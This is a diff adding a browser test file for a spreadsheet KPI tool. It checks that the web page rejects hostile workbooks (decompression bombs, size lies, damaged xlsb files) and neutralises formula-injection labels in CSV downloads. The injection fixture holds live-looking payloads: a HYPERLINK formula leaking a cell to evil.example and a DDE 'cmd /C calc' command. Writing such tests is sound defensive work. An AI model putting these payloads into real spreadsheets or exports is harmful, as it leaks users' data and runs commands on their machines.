@@ -1,0 +1,79 @@
+// The built page (dist/web) in headless Chromium on hostile files from the corpus the CLI is
+// tested on (scripts/hostile-corpus.py): decompression and repeat bombs, lying claims and the
+// damaged xlsb workbooks that used to trap the WASM each give the CLI's message in words
+// (never "a fault in sheetkpi"), and the page still reads a valid workbook right after; a CSV
+// of formula-like labels downloads with every one of them neutralised, as the CLI writes it.
+import { test, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync, execFileSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { root } from './load.mjs';
+import { openBrowser, openWorkbook, dist } from './web-harness.mjs';
+
+const skip = !existsSync(join(dist, 'report.js'));
+const browser = await openBrowser();
+const work = mkdtempSync(join(tmpdir(), 'sheetkpi-web-hostile-'));
+after(async () => {
+  await browser.close();
+  rmSync(work, { recursive: true, force: true });
+});
+const { page, errors } = await browser.open('/');
+execFileSync('python3', [join(root, 'scripts/hostile-corpus.py'), work], { stdio: 'ignore' });
+
+function cli(...args) {
+  const bin = process.env.SHEETKPI_BIN || join(root, 'target/debug/sheetkpi');
+  return spawnSync(bin, args, { encoding: 'utf8', maxBuffer: 64 << 20 });
+}
+
+const hostile = [
+  'xlsx-sst-unique-count.xlsx', // a shared-string count of four billion
+  'ods-repeat-columns-rows.ods', // a cell repeated across 16,384 columns and a million rows
+  'xls-dimensions-4e9-rows.xls', // a DIMENSIONS record claiming four billion rows
+  'ods-repeat-10kb-string.ods', // a 10 KB string repeated ten million times
+  'xlsx-size-lie-small.xlsx', // a part that inflates past its declared size
+  'xlsb-unknown-relationship.xlsb', // calamine panics on it (a trap in WASM)
+  'xlsb-bundle-length-lie.xlsb',
+  'xlsb-short-bundle.xlsb',
+];
+
+for (const name of hostile) {
+  test(`${name}: the CLI's message in words, and the page reads the next file`, { skip }, async () => {
+    const file = join(work, name);
+    const native = cli('report', file, '--format', 'json');
+    assert.equal(native.status, 2, `the CLI refuses ${name}: ${native.stdout.slice(0, 200)}`);
+    await openWorkbook(page, file);
+    assert.equal(await page.isHidden('#import-error'), false, `${name} was read`);
+    const shown = await page.textContent('#import-error');
+    assert.doesNotMatch(shown, /fault in sheetkpi|unreachable|RuntimeError|panicked/i, shown);
+    // The CLI's facts (its first line, after "sheetkpi: PATH: "), as the page words them.
+    const facts = native.stderr.trim().split('\n')[0].replace(/^sheetkpi: [^:]*: /, '');
+    assert.ok(shown.toLowerCase().includes(facts.slice(0, 40).toLowerCase()), `page: ${shown}\nCLI: ${facts}`);
+    await openWorkbook(page, join(root, 'samples/campaigns.xlsx'));
+    assert.equal(await page.isHidden('#import-error'), true, await page.textContent('#import-error'));
+  });
+}
+
+test('formula-like labels are neutralised in the report CSV download, as the CLI writes it', { skip }, async () => {
+  const file = join(work, 'injection.csv');
+  writeFileSync(file, 'Channel,Campaign,Spend,Revenue\n"=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",+cmd|\' /C calc\'!A0,100,-5\n@SUM(A1),-2+3,50,80\n');
+  await openWorkbook(page, file);
+  assert.equal(await page.isHidden('#import-error'), true, await page.textContent('#import-error'));
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download-csv')]);
+  const saved = join(work, 'injection-report.csv');
+  await dl.saveAs(saved);
+  const text = readFileSync(saved, 'utf8');
+  const native = cli('report', file, '--format', 'csv');
+  assert.equal(native.status, 0, native.stderr);
+  assert.equal(text, native.stdout);
+  for (const live of ['=HYPERLINK', '+cmd', '@SUM', '-2+3']) {
+    assert.ok(text.includes(`'${live}`), `${live} is neutralised:\n${text}`);
+    assert.ok(!new RegExp(`(^|,|")\\${live.charAt(0)}${live.slice(1).replace(/[|+()]/g, '\\$&')}`, 'm').test(text), `${live} left live:\n${text}`);
+  }
+  assert.ok(text.split('\n').some((l) => l.split(',').includes('-5')), 'a negative number stays a number');
+});
+
+test('no page errors', { skip }, () => {
+  assert.deepEqual(errors, []);
+});
